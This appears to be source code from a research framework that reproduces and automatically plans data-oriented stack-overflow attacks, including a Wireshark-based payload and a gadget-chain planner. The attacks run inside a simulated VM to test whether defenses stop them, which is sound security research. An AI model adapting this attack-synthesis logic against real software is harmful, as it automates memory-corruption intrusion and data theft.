    def _strike_payload(self, leak: bytes, flag_addr: int) -> Optional[bytes]:
        """Overflow payload: replay the disclosed bytes, patch col/cinfo."""
        col_gap = find_marker(leak, le64(COL_MARKER))
        cinfo_gap = find_marker(leak, le64(CINFO_MARKER))
        if col_gap is None or cinfo_gap is None:
            return None
        end = max(col_gap, cinfo_gap) + 8
        if len(leak) < end:
            return None
        payload = bytearray(leak[:end])
        payload[col_gap : col_gap + 8] = le64((flag_addr << 8) | 1)
        payload[cinfo_gap : cinfo_gap + 8] = le64(0x0DEFACED)
        return bytes(payload)


def run_wireshark_campaign(
    defense: Defense, restarts: int = 8, seed: int = 0
) -> AttackReport:
    """Convenience wrapper used by tests and the security benchmark."""
    from repro.attacks.harness import run_campaign

    return run_campaign(WiresharkDopAttack(), defense, restarts=restarts, seed=seed)
