"""Attack outcome bookkeeping and the attacker-knowledge model.

The threat model (paper §III-B) grants the attacker:

* the program binary/source ("static analysis"): modeled by
  :meth:`repro.defenses.base.ProgramBuild.layout_oracle` — note it
  describes the *reference* build, not a compile-time-diversified
  instance;
* memory disclosure **through channels the program actually offers**
  (echoed buffers, logged pointers): modeled as the attacker parsing the
  victim's accumulated outputs between inputs — never as an out-of-band
  peek into ``machine.memory``;
* repeated attempts against a restarting service: modeled by the
  campaign loop in `repro.attacks.harness`.

Each attempt resolves to one outcome:

==========  ==========================================================
success     the attack's goal condition was met (e.g. secret exfiltrated)
detected    a security check fired (canary, Smokestack fnid)
crashed     the process faulted (wild overflow, bad pointer)
failed      the process ran to completion without the goal being met
limit       a resource limit tripped (e.g. corrupted loop counter span)
==========  ==========================================================
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.vm.interpreter import ExecutionResult

OUTCOMES = ("success", "detected", "crashed", "failed", "limit")


class AttackAttempt:
    """One run of the victim under attack."""

    __slots__ = ("index", "outcome", "detail")

    def __init__(self, index: int, outcome: str, detail: str = ""):
        if outcome not in OUTCOMES:
            raise ValueError(f"unknown outcome '{outcome}'")
        self.index = index
        self.outcome = outcome
        self.detail = detail

    def __repr__(self) -> str:
        return f"AttackAttempt(#{self.index}: {self.outcome})"


class AttackReport:
    """A campaign's worth of attempts of one scenario against one defense."""

    def __init__(self, scenario_name: str, defense_name: str):
        self.scenario_name = scenario_name
        self.defense_name = defense_name
        self.attempts: List[AttackAttempt] = []

    def record(self, outcome: str, detail: str = "") -> AttackAttempt:
        attempt = AttackAttempt(len(self.attempts), outcome, detail)
        self.attempts.append(attempt)
        return attempt

    # -- statistics ----------------------------------------------------------------

    @property
    def total(self) -> int:
        return len(self.attempts)

    def count(self, outcome: str) -> int:
        return sum(1 for a in self.attempts if a.outcome == outcome)

    @property
    def succeeded(self) -> bool:
        return self.count("success") > 0

    @property
    def first_success(self) -> Optional[int]:
        for attempt in self.attempts:
            if attempt.outcome == "success":
                return attempt.index
        return None

    def success_rate(self) -> float:
        return self.count("success") / self.total if self.total else 0.0

    def detection_rate(self) -> float:
        return self.count("detected") / self.total if self.total else 0.0

    def breakdown(self) -> Dict[str, int]:
        return {outcome: self.count(outcome) for outcome in OUTCOMES}

    def verdict(self) -> str:
        """One word: did the defense stop the campaign?"""
        return "bypassed" if self.succeeded else "stopped"

    def __repr__(self) -> str:
        parts = ", ".join(
            f"{name}={count}" for name, count in self.breakdown().items() if count
        )
        return (
            f"AttackReport({self.scenario_name!r} vs {self.defense_name!r}: "
            f"{self.verdict()}; {parts})"
        )


def classify_result(result: ExecutionResult, goal_met: bool) -> str:
    """Map an execution result + goal check to an attempt outcome."""
    if goal_met:
        return "success"
    if result.outcome == "security-violation":
        return "detected"
    if result.outcome in ("fault", "trap"):
        return "crashed"
    if result.outcome == "limit":
        return "limit"
    return "failed"
