"""Goal-directed gadget-chain planning (the attack compiler's middle end).

Given a goal predicate and a program's facts, the planner searches the
shared gadget census for an instruction sequence that achieves the goal
*within the legitimate control flow*, and emits an :class:`AttackPlan`:
an ordered list of strikes, each a set of symbolic slot writes.

The search is expression-driven.  Every gadget operand (a send's pointer
and length, a mover's target and value) is rebuilt as an expression tree
over *slot reads* — the attacker-writable unknowns — then solved
backward against the wanted value, threading a bit mask down through
``and``/``shift``/``trunc`` nodes.  Branch conditions dominating the
gadget contribute additional constraints (or avoid-sets for ``!=``
guards), so the resulting writes both aim the gadget and steer execution
to it.  Constraints on *globals* recurse: a mover gadget whose pointer
can be solved to the global's address becomes a staging strike.

The planner is defense-independent: writes are symbolic (frame + slot +
masked value pieces), and :mod:`repro.synth.concretize` maps them to
payload bytes per deployed defense.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from repro.ir.instructions import (
    Alloca,
    BinOp,
    Call,
    Cast,
    Cmp,
    CondBr,
    ElemPtr,
    Instruction,
    Load,
    Store,
)
from repro.ir.module import BasicBlock, Function
from repro.ir.values import Argument, Constant, GlobalVariable, Value
from repro.opt.cfg import DominatorTree, reachable_blocks
from repro.synth.channels import OverflowChannel, discover_channels, strip_casts
from repro.synth.facts import ProgramFacts
from repro.synth.goals import CorruptGoal, ExfilGoal, Goal

WORD_MASK = (1 << 64) - 1

SEND_CALLEES = ("output_bytes", "print_str")


# --------------------------------------------------------------------------
# symbolic values
# --------------------------------------------------------------------------


class Term:
    """A 64-bit value the concretizer can realize against a build."""

    def resolve(self, address_of) -> int:
        raise NotImplementedError


@dataclass(frozen=True)
class ConstTerm(Term):
    value: int

    def resolve(self, address_of) -> int:
        return self.value & WORD_MASK

    def __repr__(self) -> str:
        return hex(self.value)


@dataclass(frozen=True)
class AddrTerm(Term):
    """``(address_of(global) + add) << lshift``."""

    global_name: str
    add: int = 0
    lshift: int = 0

    def resolve(self, address_of) -> int:
        return ((address_of(self.global_name) + self.add) << self.lshift) & WORD_MASK

    def __repr__(self) -> str:
        text = f"&{self.global_name}"
        if self.add:
            text += f"+{self.add}"
        if self.lshift:
            text = f"({text})<<{self.lshift}"
        return text


def shift_term(term: Term, by: int) -> Optional[Term]:
    """``term << by`` (negative = right shift), when representable."""
    if isinstance(term, ConstTerm):
        value = term.value << by if by >= 0 else term.value >> -by
        return ConstTerm(value & WORD_MASK)
    if isinstance(term, AddrTerm):
        shifted = term.lshift + by
        if shifted < 0:
            return None
        return AddrTerm(term.global_name, term.add, shifted)
    return None


# --------------------------------------------------------------------------
# expressions over slot reads
# --------------------------------------------------------------------------


@dataclass(frozen=True)
class EConst:
    value: int


@dataclass(frozen=True)
class ESlot:
    function: str
    slot: str


@dataclass(frozen=True)
class EGlobal:
    name: str


@dataclass(frozen=True)
class EGlobalAddr:
    name: str


@dataclass(frozen=True)
class EUnknown:
    why: str


@dataclass(frozen=True)
class EOp:
    op: str
    lhs: object
    rhs: object = None


Expr = object


def build_expr(
    facts: ProgramFacts,
    function: Function,
    value: Value,
    site: Optional[Instruction],
    depth: int = 0,
) -> Expr:
    """Expression of ``value`` in terms of slot/global reads at ``site``.

    Loads of slots forward through a *preceding same-block store* (the
    compiler-temp pattern: ``dst = col >> 8; ... *dst = ...``), so the
    solver sees the original slot read instead of the temp.
    """
    if depth > 24:
        return EUnknown("depth")
    if isinstance(value, Constant):
        if isinstance(value.value, int):
            return EConst(value.value)
        return EUnknown("non-int constant")
    if isinstance(value, GlobalVariable):
        return EGlobalAddr(value.name)
    if isinstance(value, Cast):
        if value.kind == "trunc":
            width = getattr(value.ctype, "size", None)
            size = width() if callable(width) else width
            if isinstance(size, int) and size < 8:
                return EOp(
                    "and",
                    build_expr(facts, function, value.value, site, depth + 1),
                    EConst((1 << (8 * size)) - 1),
                )
        return build_expr(facts, function, value.value, site, depth + 1)
    if isinstance(value, Load):
        pointer = strip_casts(value.pointer)
        if isinstance(pointer, Alloca):
            slot = facts.slot_of(function, pointer)
            forwarded = _forwarded_store(function, pointer, value if site is None else site, value)
            if forwarded is not None:
                return build_expr(facts, function, forwarded, site, depth + 1)
            if slot is not None:
                return ESlot(function.name, slot)
            return EUnknown("unnamed slot")
        if isinstance(pointer, GlobalVariable):
            return EGlobal(pointer.name)
        return EUnknown("indirect load")
    if isinstance(value, BinOp):
        return EOp(
            value.op,
            build_expr(facts, function, value.lhs, site, depth + 1),
            build_expr(facts, function, value.rhs, site, depth + 1),
        )
    if isinstance(value, Argument):
        return EUnknown(f"argument {value.name}")
    return EUnknown(type(value).__name__)


def _forwarded_store(
    function: Function,
    alloca: Alloca,
    site: Instruction,
    load: Instruction,
) -> Optional[Value]:
    """The value of the nearest store to ``alloca`` before ``load``.

    Same-block only — across blocks the slot is treated as a free
    unknown (which is what makes it attacker-writable).
    """
    block = getattr(load, "block", None)
    if block is None:
        return None
    candidate: Optional[Value] = None
    for inst in block.instructions:
        if inst is load:
            break
        if isinstance(inst, Store) and strip_casts(inst.pointer) is alloca:
            candidate = inst.value
        if isinstance(inst, Call):
            # a call may rewrite the slot through an escaped pointer;
            # stay conservative and drop the forwarding
            candidate = None if candidate is not None else candidate
    return candidate


def expr_slots(expr: Expr) -> Set[Tuple[str, str]]:
    if isinstance(expr, ESlot):
        return {(expr.function, expr.slot)}
    if isinstance(expr, EOp):
        out = expr_slots(expr.lhs)
        if expr.rhs is not None:
            out |= expr_slots(expr.rhs)
        return out
    return set()


# --------------------------------------------------------------------------
# constraints
# --------------------------------------------------------------------------


@dataclass
class SlotConstraint:
    """Bit-piece constraints on one location (slot or global)."""

    pieces: List[Tuple[int, Term]] = field(default_factory=list)
    avoid: List[Tuple[int, int]] = field(default_factory=list)  # (mask, value)

    def add_piece(self, mask: int, term: Term) -> bool:
        mask &= WORD_MASK
        if mask == 0:
            return True
        for existing_mask, existing_term in self.pieces:
            overlap = existing_mask & mask
            if not overlap:
                continue
            if (
                isinstance(term, ConstTerm)
                and isinstance(existing_term, ConstTerm)
                and (term.value & overlap) == (existing_term.value & overlap)
            ):
                continue  # agreeing constants may overlap
            return False
        self.pieces.append((mask, term))
        return True

    def concrete_value(self) -> Optional[int]:
        """The constrained value when every piece is a constant."""
        value = 0
        covered = 0
        for mask, term in self.pieces:
            if not isinstance(term, ConstTerm):
                return None
            value |= term.value & mask
            covered |= mask
        if covered != WORD_MASK:
            return None
        return value & WORD_MASK


Location = Tuple[str, str, str]  # ("slot", function, name) | ("global", name, "")


def slot_loc(function: str, slot: str) -> Location:
    return ("slot", function, slot)


def global_loc(name: str) -> Location:
    return ("global", name, "")


class ConstraintSet:
    """Accumulated location constraints for one strike."""

    def __init__(self) -> None:
        self.by_location: Dict[Location, SlotConstraint] = {}
        self.trigger: Set[Location] = set()

    def constraint(self, location: Location) -> SlotConstraint:
        if location not in self.by_location:
            self.by_location[location] = SlotConstraint()
        return self.by_location[location]

    def add(self, location: Location, mask: int, term: Term) -> bool:
        return self.constraint(location).add_piece(mask, term)

    def add_avoid(self, location: Location, mask: int, value: int) -> None:
        self.constraint(location).avoid.append((mask & WORD_MASK, value))

    def mark_trigger(self, location: Location) -> None:
        self.trigger.add(location)

    def merge(self, other: "ConstraintSet") -> bool:
        for location, constraint in other.by_location.items():
            target = self.constraint(location)
            for mask, term in constraint.pieces:
                if not target.add_piece(mask, term):
                    return False
            target.avoid.extend(constraint.avoid)
        self.trigger |= other.trigger
        return True

    def check_avoids(self) -> bool:
        for constraint in self.by_location.values():
            for mask, avoid_value in constraint.avoid:
                concrete = 0
                covered = 0
                for piece_mask, term in constraint.pieces:
                    if isinstance(term, ConstTerm):
                        concrete |= term.value & piece_mask
                        covered |= piece_mask
                if covered & mask == mask and (concrete & mask) == (
                    avoid_value & mask
                ):
                    return False
        return True


def solve(
    expr: Expr, want: Term, mask: int, out: ConstraintSet
) -> bool:
    """Constrain free locations so ``expr & mask == want & mask``."""
    mask &= WORD_MASK
    if mask == 0:
        return True
    if isinstance(expr, EConst):
        if isinstance(want, ConstTerm):
            return (expr.value & mask) == (want.value & mask)
        return False  # constant vs address: undecidable statically
    if isinstance(expr, ESlot):
        return out.add(slot_loc(expr.function, expr.slot), mask, want)
    if isinstance(expr, EGlobal):
        return out.add(global_loc(expr.name), mask, want)
    if isinstance(expr, EGlobalAddr):
        return isinstance(want, AddrTerm) and want == AddrTerm(expr.name)
    if isinstance(expr, EOp):
        return _solve_op(expr, want, mask, out)
    return False


def _solve_op(expr: EOp, want: Term, mask: int, out: ConstraintSet) -> bool:
    op = expr.op
    lhs, rhs = expr.lhs, expr.rhs
    if op == "and":
        for a, b in ((lhs, rhs), (rhs, lhs)):
            if isinstance(b, EConst):
                if isinstance(want, ConstTerm) and (want.value & mask & ~b.value):
                    return False  # wants bits the mask clears
                return solve(a, want, mask & b.value, out)
        return False
    if op == "or":
        for a, b in ((lhs, rhs), (rhs, lhs)):
            if isinstance(b, EConst):
                if b.value & mask == 0:
                    return solve(a, want, mask, out)
                if isinstance(want, ConstTerm):
                    if (want.value & mask & b.value) != (b.value & mask):
                        return False
                    return solve(a, want, mask & ~b.value, out)
        return False
    if op == "xor":
        for a, b in ((lhs, rhs), (rhs, lhs)):
            if isinstance(b, EConst) and isinstance(want, ConstTerm):
                return solve(a, ConstTerm(want.value ^ b.value), mask, out)
        return False
    if op in ("shl",):
        shift = _const_of(rhs)
        if shift is None or shift < 0 or shift > 63:
            return False
        shifted_want = shift_term(want, -shift)
        if shifted_want is None:
            return False
        return solve(lhs, shifted_want, (mask >> shift), out)
    if op in ("lshr", "ashr"):
        shift = _const_of(rhs)
        if shift is None or shift < 0 or shift > 63:
            return False
        shifted_want = shift_term(want, shift)
        if shifted_want is None:
            return False
        return solve(lhs, shifted_want, (mask << shift) & WORD_MASK, out)
    if op in ("add", "sub"):
        if mask != WORD_MASK:
            return False  # masked addition does not distribute
        lhs_const, rhs_const = _const_of(lhs), _const_of(rhs)
        if op == "add" and lhs_const is not None:
            lhs, rhs, lhs_const, rhs_const = rhs, lhs, rhs_const, lhs_const
        if rhs_const is not None:
            # x + c == want  ->  x == want - c   (sub: x == want + c)
            delta = rhs_const if op == "sub" else -rhs_const
            shifted = _offset_term(want, delta)
            if shifted is None:
                return False
            return solve(lhs, shifted, mask, out)
        if op == "sub" and lhs_const is not None and isinstance(want, ConstTerm):
            # c - x == want  ->  x == c - want
            return solve(
                rhs, ConstTerm((lhs_const - want.value) & WORD_MASK), mask, out
            )
        return False
    return False


def _offset_term(term: Term, delta: int) -> Optional[Term]:
    if isinstance(term, ConstTerm):
        return ConstTerm((term.value + delta) & WORD_MASK)
    if isinstance(term, AddrTerm) and term.lshift == 0:
        return AddrTerm(term.global_name, term.add + delta, 0)
    return None


def _const_of(expr: Expr) -> Optional[int]:
    if isinstance(expr, EConst):
        return expr.value
    return None


# --------------------------------------------------------------------------
# concrete evaluation (for ordered-comparison guards)
# --------------------------------------------------------------------------


def eval_expr(
    expr: Expr, env: Dict[Tuple[str, str], int], globals_env: Dict[str, int]
) -> Optional[int]:
    if isinstance(expr, EConst):
        return expr.value & WORD_MASK
    if isinstance(expr, ESlot):
        return env.get((expr.function, expr.slot))
    if isinstance(expr, EGlobal):
        return globals_env.get(expr.name)
    if isinstance(expr, EOp):
        a = eval_expr(expr.lhs, env, globals_env)
        b = eval_expr(expr.rhs, env, globals_env) if expr.rhs is not None else None
        if a is None or (expr.rhs is not None and b is None):
            return None
        ops = {
            "add": lambda: a + b,
            "sub": lambda: a - b,
            "and": lambda: a & b,
            "or": lambda: a | b,
            "xor": lambda: a ^ b,
            "shl": lambda: a << (b & 63),
            "lshr": lambda: a >> (b & 63),
            "ashr": lambda: _signed(a) >> (b & 63),
        }
        handler = ops.get(expr.op)
        if handler is None:
            return None
        return handler() & WORD_MASK
    return None


def _signed(value: int) -> int:
    value &= WORD_MASK
    return value - (1 << 64) if value >> 63 else value


# --------------------------------------------------------------------------
# guards
# --------------------------------------------------------------------------


@dataclass
class Guard:
    compare: Cmp
    want_true: bool


def guards_for(function: Function, site_block: BasicBlock) -> Optional[List[Guard]]:
    """Branch conditions every path to ``site_block`` must satisfy."""
    tree = DominatorTree(function)
    reachable = reachable_blocks(function)
    if site_block not in reachable:
        return None
    guards: List[Guard] = []
    for block in function.blocks:
        if block not in reachable or block is site_block:
            continue
        terminator = block.terminator()
        if not isinstance(terminator, CondBr):
            continue
        if not tree.dominates(block, site_block):
            continue
        true_leads = _leads_to(terminator.true_target, site_block, tree)
        false_leads = _leads_to(terminator.false_target, site_block, tree)
        if true_leads == false_leads:
            continue  # both paths rejoin before the site: no constraint
        compare = _unwrap_condition(terminator.cond)
        if compare is None:
            return None  # opaque dominating branch: cannot steer
        guards.append(Guard(compare, want_true=true_leads))
    return guards


def _leads_to(successor: BasicBlock, site: BasicBlock, tree: DominatorTree) -> bool:
    return successor is site or tree.dominates(successor, site)


def _unwrap_condition(cond: Value) -> Optional[Cmp]:
    cond = strip_casts(cond)
    if isinstance(cond, Cmp):
        # frontend shape: cmp[ne](inner, 0) — unwrap to the real compare
        if cond.op == "ne":
            rhs = strip_casts(cond.rhs)
            inner = strip_casts(cond.lhs)
            if (
                isinstance(rhs, Constant)
                and rhs.value == 0
                and isinstance(inner, Cmp)
            ):
                return inner
        return cond
    return None


# --------------------------------------------------------------------------
# the plan
# --------------------------------------------------------------------------


@dataclass
class SlotWrite:
    """One symbolic write the concretizer must land."""

    frame: str  # "victim" | "caller"
    slot: str
    pieces: List[Tuple[int, Term]]
    trigger: bool = False

    def describe(self) -> str:
        parts = ", ".join(f"{hex(m)}:{t!r}" for m, t in self.pieces)
        tag = " (trigger)" if self.trigger else ""
        return f"{self.frame}.{self.slot} <- {parts}{tag}"


@dataclass
class Strike:
    writes: List[SlotWrite]
    label: str = ""


@dataclass
class AttackPlan:
    goal: Goal
    channel: OverflowChannel
    strikes: List[Strike]

    def describe(self) -> str:
        lines = [f"goal: {self.goal.describe()}", f"channel: {self.channel.describe()}"]
        for index, strike in enumerate(self.strikes):
            lines.append(f"strike {index + 1} ({strike.label}):")
            for write in strike.writes:
                lines.append(f"  {write.describe()}")
        return "\n".join(lines)

    def predicted_corruptions(self) -> List[Tuple[str, str, int]]:
        """Fully-constant predictions: (function, slot, 64-bit value)."""
        out = []
        for strike in self.strikes:
            for write in strike.writes:
                constraint = SlotConstraint()
                for mask, term in write.pieces:
                    constraint.add_piece(mask, term)
                value = constraint.concrete_value()
                if value is not None:
                    function = (
                        self.channel.function.name
                        if write.frame == "victim"
                        else self.channel.caller.function.name
                    )
                    out.append((function, write.slot, value))
        return out


# --------------------------------------------------------------------------
# planning
# --------------------------------------------------------------------------


class Planner:
    def __init__(self, facts: ProgramFacts):
        self.facts = facts
        self.channels = discover_channels(facts)

    # -- public -----------------------------------------------------------

    def plan(self, goal: Goal) -> Optional[AttackPlan]:
        for channel in self.channels:
            plan = self._plan_on_channel(goal, channel)
            if plan is not None:
                return plan
        return None

    # -- helpers ----------------------------------------------------------

    def _plan_on_channel(
        self, goal: Goal, channel: OverflowChannel
    ) -> Optional[AttackPlan]:
        if isinstance(goal, CorruptGoal):
            return self._plan_corrupt(goal, channel)
        if isinstance(goal, ExfilGoal):
            return self._plan_exfil(goal, channel)
        return None

    def _frame_of(
        self, channel: OverflowChannel, function_name: str
    ) -> Optional[str]:
        if function_name == channel.function.name:
            return "victim"
        if (
            channel.caller is not None
            and function_name == channel.caller.function.name
        ):
            return "caller"
        return None

    def _constraints_to_writes(
        self, channel: OverflowChannel, constraints: ConstraintSet
    ) -> Optional[Tuple[List[SlotWrite], List[Tuple[str, int]]]]:
        """Map location constraints onto the channel's two frames.

        Returns (writes, global subgoals).  Global subgoals are values
        that must be staged into globals by earlier strikes.
        """
        writes: List[SlotWrite] = []
        global_goals: List[Tuple[str, int]] = []
        if not constraints.check_avoids():
            return None
        layout = self.facts.layout(channel.function)
        buffer_lo = layout.slot(channel.buffer).lo
        for location, constraint in constraints.by_location.items():
            if not constraint.pieces:
                continue
            kind = location[0]
            if kind == "global":
                value = constraint.concrete_value()
                if value is None:
                    return None
                global_goals.append((location[1], value))
                continue
            _, function_name, slot = location
            frame = self._frame_of(channel, function_name)
            if frame is None:
                return None
            if frame == "victim":
                try:
                    gap = layout.slot(slot).lo - buffer_lo
                except KeyError:
                    return None
                if gap < 0 or slot == channel.buffer:
                    return None  # below the buffer: a linear overflow cannot reach
                if gap + 8 > channel.write_limit:
                    return None
            else:
                caller_layout = self.facts.layout(channel.caller.function)
                try:
                    caller_slot = caller_layout.slot(slot)
                except KeyError:
                    return None
                from repro.analysis.reach import frame_height

                gap = caller_slot.lo + frame_height(caller_layout) - buffer_lo
                if gap + 8 > channel.write_limit:
                    return None
                if channel.echo is None or channel.echo.length < gap + 8:
                    if channel.style != "cursor":
                        return None  # crossing blind: cookie unknown
            writes.append(
                SlotWrite(
                    frame,
                    slot,
                    list(constraint.pieces),
                    trigger=location in constraints.trigger,
                )
            )
        return writes, global_goals

    def _guard_constraints(
        self,
        function: Function,
        site_block: BasicBlock,
        constraints: ConstraintSet,
        planned_env: Dict[Tuple[str, str], int],
    ) -> bool:
        guards = guards_for(function, site_block)
        if guards is None:
            return False
        init_env = dict(planned_env)
        for fn in self.facts.functions():
            escaped = self.facts.escaped_slots(fn)
            for slot, init in self.facts.initial_values(fn).items():
                if slot in escaped:
                    continue  # a call rewrites it; the init is stale
                init_env.setdefault(
                    (fn.name, slot),
                    init.value if init.kind == "const" else None,
                )
        init_env = {k: v for k, v in init_env.items() if v is not None}
        globals_env: Dict[str, int] = {}
        for name in self.facts.module.globals:
            word = self.facts.global_init_word(name)
            if word is not None:
                globals_env[name] = word
        for guard in guards:
            if not self._apply_guard(guard, function, constraints, init_env, globals_env):
                return False
        return True

    def _apply_guard(
        self,
        guard: Guard,
        function: Function,
        constraints: ConstraintSet,
        env: Dict[Tuple[str, str], int],
        globals_env: Dict[str, int],
    ) -> bool:
        compare = guard.compare
        lhs = build_expr(self.facts, function, compare.lhs, compare)
        rhs = build_expr(self.facts, function, compare.rhs, compare)
        op = compare.op
        want_equal = (op == "eq") == guard.want_true
        if op in ("eq", "ne"):
            for free, bound in ((lhs, rhs), (rhs, lhs)):
                if expr_slots(free) or isinstance(free, EGlobal):
                    term = self._term_of(bound, env, globals_env)
                    if term is None:
                        continue
                    if want_equal:
                        marked = ConstraintSet()
                        if not solve(free, term, WORD_MASK, marked):
                            return False
                        for location in marked.by_location:
                            marked.mark_trigger(location)
                        return constraints.merge(marked)
                    if isinstance(term, ConstTerm) and isinstance(free, ESlot):
                        constraints.add_avoid(
                            slot_loc(free.function, free.slot),
                            WORD_MASK,
                            term.value,
                        )
                        return True
                    return True  # inequality with a non-slot side: hope
            # neither side solvable: evaluate concretely if possible
            a = eval_expr(lhs, env, globals_env)
            b = eval_expr(rhs, env, globals_env)
            if a is not None and b is not None:
                return (a == b) == want_equal
            return True
        # ordered comparison: evaluate with planned+initial values; if
        # undecidable, accept optimistically (the VM run is the judge).
        a = eval_expr(lhs, env, globals_env)
        b = eval_expr(rhs, env, globals_env)
        if a is None or b is None:
            return True
        table = {
            "slt": _signed(a) < _signed(b),
            "sle": _signed(a) <= _signed(b),
            "sgt": _signed(a) > _signed(b),
            "sge": _signed(a) >= _signed(b),
            "ult": a < b,
            "ule": a <= b,
            "ugt": a > b,
            "uge": a >= b,
        }
        if op not in table:
            return True
        return table[op] == guard.want_true

    def _term_of(
        self,
        expr: Expr,
        env: Dict[Tuple[str, str], int],
        globals_env: Dict[str, int],
    ) -> Optional[Term]:
        if isinstance(expr, EGlobalAddr):
            return AddrTerm(expr.name)
        value = eval_expr(expr, env, globals_env)
        if value is not None:
            return ConstTerm(value)
        return None

    # -- corrupt goal ------------------------------------------------------

    def _plan_corrupt(
        self, goal: CorruptGoal, channel: OverflowChannel
    ) -> Optional[AttackPlan]:
        frame = self._frame_of(channel, goal.function)
        if frame is None:
            return None
        constraints = ConstraintSet()
        if not constraints.add(
            slot_loc(goal.function, goal.slot), WORD_MASK, ConstTerm(goal.value)
        ):
            return None
        mapped = self._constraints_to_writes(channel, constraints)
        if mapped is None:
            return None
        writes, global_goals = mapped
        if global_goals or not writes:
            return None
        return AttackPlan(goal, channel, [Strike(writes, label="corrupt")])

    # -- exfil goal --------------------------------------------------------

    def _plan_exfil(
        self, goal: ExfilGoal, channel: OverflowChannel
    ) -> Optional[AttackPlan]:
        needle = goal.needle
        location = self.facts.find_needle(needle)
        staging_strikes: List[Strike] = []
        if location is None:
            staged = self._stage_needle(channel, needle)
            if staged is None:
                return None
            location, staging_strikes = staged
        plan_tail = self._send_strikes(channel, location, len(needle))
        if plan_tail is None:
            return None
        return AttackPlan(goal, channel, staging_strikes + plan_tail)

    def _send_strikes(
        self, channel: OverflowChannel, location, needle_length: int
    ) -> Optional[List[Strike]]:
        """Strikes that make some send site emit the located needle."""
        global_name, offset = location
        for function in self.facts.functions():
            if self._frame_of(channel, function.name) is None:
                continue
            for inst in function.instructions():
                if not isinstance(inst, Call):
                    continue
                if inst.callee_name() not in SEND_CALLEES:
                    continue
                strikes = self._solve_send_site(
                    channel, function, inst, global_name, offset, needle_length
                )
                if strikes is not None:
                    return strikes
        return None

    def _solve_send_site(
        self,
        channel: OverflowChannel,
        function: Function,
        site: Call,
        global_name: str,
        offset: int,
        needle_length: int,
    ) -> Optional[List[Strike]]:
        constraints = ConstraintSet()
        pointer_expr = build_expr(self.facts, function, site.args[0], site)
        needed_length = offset + needle_length

        if isinstance(pointer_expr, EGlobalAddr):
            if pointer_expr.name != global_name:
                return None
        elif not solve(
            pointer_expr, AddrTerm(global_name, offset), WORD_MASK, constraints
        ):
            return None

        if len(site.args) > 1:
            length_expr = build_expr(self.facts, function, site.args[1], site)
            length_const = (
                length_expr.value if isinstance(length_expr, EConst) else None
            )
            if length_const is not None:
                if length_const < needed_length:
                    return None
            elif not solve(
                length_expr, ConstTerm(needed_length), WORD_MASK, constraints
            ):
                return None

        planned_env = self._planned_env(constraints)
        if not self._guard_constraints(
            function, site.block, constraints, planned_env
        ):
            return None
        mapped = self._constraints_to_writes(channel, constraints)
        if mapped is None:
            return None
        writes, global_goals = mapped

        strikes: List[Strike] = []
        for staged_global, staged_value in global_goals:
            stage = self._stage_global(channel, staged_global, staged_value)
            if stage is None:
                return None
            strikes.extend(stage)
        if writes:
            strikes.append(Strike(writes, label=f"send@{function.name}"))
        elif not strikes:
            return None  # nothing to do: the send would fire anyway (or never)
        return strikes

    def _planned_env(self, constraints: ConstraintSet) -> Dict[Tuple[str, str], int]:
        env: Dict[Tuple[str, str], int] = {}
        for location, constraint in constraints.by_location.items():
            if location[0] != "slot":
                continue
            value = constraint.concrete_value()
            if value is not None:
                env[(location[1], location[2])] = value
        return env

    def _stage_global(
        self, channel: OverflowChannel, global_name: str, value: int
    ) -> Optional[List[Strike]]:
        """Strikes making a mover gadget write ``value`` to the global."""
        variable = self.facts.global_variable(global_name)
        if variable is None or variable.readonly:
            return None
        return self._mover_strikes(channel, AddrTerm(global_name), ConstTerm(value))

    def _stage_needle(
        self, channel: OverflowChannel, needle: bytes
    ) -> Optional[Tuple[Tuple[str, int], List[Strike]]]:
        """Write the needle into a writable scratch global via a mover."""
        if len(needle) > 8:
            return None  # one mover word; longer needles need a resident copy
        scratch = self.facts.scratch_global(len(needle))
        if scratch is None:
            return None
        word = int.from_bytes(needle.ljust(8, b"\x00"), "little")
        strikes = self._mover_strikes(channel, AddrTerm(scratch), ConstTerm(word))
        if strikes is None:
            return None
        return (scratch, 0), strikes

    def _mover_strikes(
        self, channel: OverflowChannel, target: AddrTerm, value: Term
    ) -> Optional[List[Strike]]:
        for function in self.facts.functions():
            if self._frame_of(channel, function.name) is None:
                continue
            for hit in self.facts.sinks(function):
                if hit.kind != "mover":
                    continue
                store = hit.instruction
                constraints = ConstraintSet()
                pointer_expr = build_expr(self.facts, function, store.pointer, store)
                if not solve(pointer_expr, target, WORD_MASK, constraints):
                    continue
                value_expr = build_expr(self.facts, function, store.value, store)
                if not solve(value_expr, value, WORD_MASK, constraints):
                    continue
                planned_env = self._planned_env(constraints)
                if not self._guard_constraints(
                    function, store.block, constraints, planned_env
                ):
                    continue
                mapped = self._constraints_to_writes(channel, constraints)
                if mapped is None:
                    continue
                writes, global_goals = mapped
                if global_goals or not writes:
                    continue
                return [Strike(writes, label=f"stage@{function.name}")]
        return None


def synthesize(
    facts: ProgramFacts, goal: Goal
) -> Optional[AttackPlan]:
    """Plan an attack achieving ``goal`` against the program, if any."""
    return Planner(facts).plan(goal)
