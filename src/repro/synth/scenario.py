"""Harness adapter for synthesized attacks, plus the ground-truth probe.

:class:`SynthScenario` wraps an :class:`~repro.synth.planner.AttackPlan`
as an :class:`~repro.attacks.harness.AttackScenario`, so synthesized
chains run through exactly the same campaign machinery (and outcome
taxonomy) as the canned CVE reproductions.  Per attempt it picks the
next defense layout hypothesis (``attempt % len(models)`` — the §II-C
brute-force loop) and compiles the plan into input chunks.

:class:`SlotProbe` is the *experimenter's* instrument, not the
attacker's: a VM tracer that watches the deployed machine's memory
writes and records every 64-bit value a watched stack slot takes.  It
is how corrupt-goals are judged and how the property tests hold the
planner to byte-exact predictions — the attacker itself never sees it.
"""

from __future__ import annotations

import random
from typing import Callable, Dict, List, Optional, Set, Tuple

from repro.analysis import reach
from repro.attacks.harness import ATTACK_MAX_STEPS, AttackScenario
from repro.core.allocations import discover_function
from repro.defenses.base import ProgramBuild
from repro.synth.concretize import AttackScript, BuildError, concretize
from repro.synth.facts import ProgramFacts
from repro.synth.goals import Goal
from repro.synth.layouts import GapModel, gap_models
from repro.synth.planner import AttackPlan
from repro.vm.interpreter import ExecutionResult, Machine


class SlotProbe:
    """VM tracer recording every value a watched slot holds.

    ``targets`` is a list of ``(function, slot)`` pairs; slots are
    matched on the deployed build's functions by reach's unique-name
    discipline, so the probe works on hardened modules too (as long as
    the defense keeps per-variable allocas).
    """

